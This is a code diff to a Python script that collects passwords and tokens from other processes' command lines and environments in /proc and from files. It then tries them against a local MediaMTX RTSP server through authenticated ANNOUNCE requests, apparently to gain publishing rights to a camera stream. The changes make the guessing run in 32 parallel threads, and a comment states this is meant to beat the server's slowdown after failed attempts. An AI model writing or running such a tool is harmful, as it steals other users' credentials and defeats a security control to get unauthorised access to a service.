@@ -16,6 +16,7 @@ import os
 import re
 import socket
 import sys
+from concurrent.futures import ThreadPoolExecutor
 
 URL_USERINFO = re.compile(r"[a-z][a-z0-9+.-]*://([^/@\s:]+):([^/@\s]+)@")
 WORD = re.compile(r"[A-Za-z0-9._~%+=-]{16,256}")
@@ -30,7 +31,7 @@ def texts(roots: list[str]) -> tuple[list[str], bool]:
     seen_publisher = False
     out: list[str] = []
     for pid in os.listdir("/proc"):
-        if not pid.isdigit():
+        if not pid.isdigit() or int(pid) == os.getpid():
             continue
         for name in ("cmdline", "environ"):
             try:
@@ -38,7 +39,7 @@ def texts(roots: list[str]) -> tuple[list[str], bool]:
                     text = f.read().replace(b"\0", b" ").decode(errors="replace")
             except OSError:
                 continue  # gone, or not ours to read
-            seen_publisher = seen_publisher or "camera_service.publisher" in text
+            seen_publisher = seen_publisher or "-m camera_service.publisher " in text
             out.append(text)
     for root in roots:
         for folder, _, files in os.walk(root):
@@ -54,6 +55,13 @@ def texts(roots: list[str]) -> tuple[list[str], bool]:
     return out, seen_publisher
 
 
+def secret_like(word: str) -> bool:
+    """Random-looking: upper, lower case and digits (a generated password or token), not a
+    file name or an option."""
+    return (any(c.isupper() for c in word) and any(c.islower() for c in word)
+            and any(c.isdigit() for c in word))
+
+
 def candidates(found: list[str]) -> list[list[str]]:
     pairs: dict[tuple[str, str], None] = {}
     for text in found:
@@ -61,7 +69,8 @@ def candidates(found: list[str]) -> list[list[str]]:
             pairs[(user, password)] = None
     for text in found:
         for word in WORD.findall(text):
-            pairs[(PUBLISHER, word)] = None
+            if secret_like(word):
+                pairs[(PUBLISHER, word)] = None
     return [list(p) for p in list(pairs)[:MAX_PAIRS]]
 
 
@@ -70,9 +79,12 @@ def announce(port: int, path: str, user: str, password: str) -> str:
     request = (f"ANNOUNCE rtsp://127.0.0.1:{port}/{path} RTSP/1.0\r\nCSeq: 1\r\n"
                f"Authorization: Basic {auth}\r\nContent-Type: application/sdp\r\n"
                f"Content-Length: {len(SDP)}\r\n\r\n{SDP}")
-    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
-        s.sendall(request.encode())
-        return s.makefile("rb").readline().decode(errors="replace").strip()
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=15) as s:
+            s.sendall(request.encode())
+            return s.makefile("rb").readline().decode(errors="replace").strip()
+    except OSError as e:
+        return f"no answer: {e}"
 
 
 def main() -> int:
@@ -81,15 +93,13 @@ def main() -> int:
     found, seen_publisher = texts(roots)
     pairs = candidates(found)
     pairs += [p for p in earlier if p not in pairs]
-    accepted = []
-    tries = 0
-    for user, password in pairs:
-        for path in paths:
-            tries += 1
-            status = announce(port, path, user, password)
-            if " 200 " in status + " ":
-                accepted.append([user, password, path, status])
-    print(json.dumps({"tries": tries, "accepted": accepted, "candidates": pairs,
+    tries = [(user, password, path) for user, password in pairs for path in paths]
+    # in parallel: MediaMTX may pause after failed attempts to slow guessing down
+    with ThreadPoolExecutor(32) as pool:
+        statuses = list(pool.map(lambda t: announce(port, t[2], t[0], t[1]), tries))
+    accepted = [[*t, status] for t, status in zip(tries, statuses, strict=True)
+                if " 200 " in status + " "]
+    print(json.dumps({"tries": len(tries), "accepted": accepted, "candidates": pairs,
                       "saw_publisher": seen_publisher, "uid": os.getuid()}))
     return 0
 
